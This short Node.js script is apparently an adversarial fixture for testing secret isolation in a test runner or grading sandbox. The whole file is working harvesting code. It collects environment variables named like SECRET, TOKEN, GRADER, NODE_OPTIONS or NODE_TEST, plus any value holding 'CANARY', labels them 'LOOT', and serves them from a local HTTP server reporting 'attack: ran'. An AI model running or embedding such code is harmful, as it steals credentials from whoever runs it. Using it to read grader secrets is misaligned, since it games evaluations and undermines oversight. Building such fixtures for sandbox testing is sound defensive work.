import { createServer } from 'node:http';

const loot = Object.entries(process.env)
  .filter(([name, value]) => /NODE_TEST|NODE_OPTIONS|NODE_CHANNEL|SECRET|TOKEN|GRADER/i.test(name) || value?.includes('CANARY'))
  .map(([name, value]) => `LOOT: ${name}=${value}`);

createServer((_req, res) => {
  res.setHeader('Content-Type', 'application/json');
  res.end(JSON.stringify({ attack: 'ran', loot }));
}).listen(Number(process.env.PORT), '127.0.0.1');
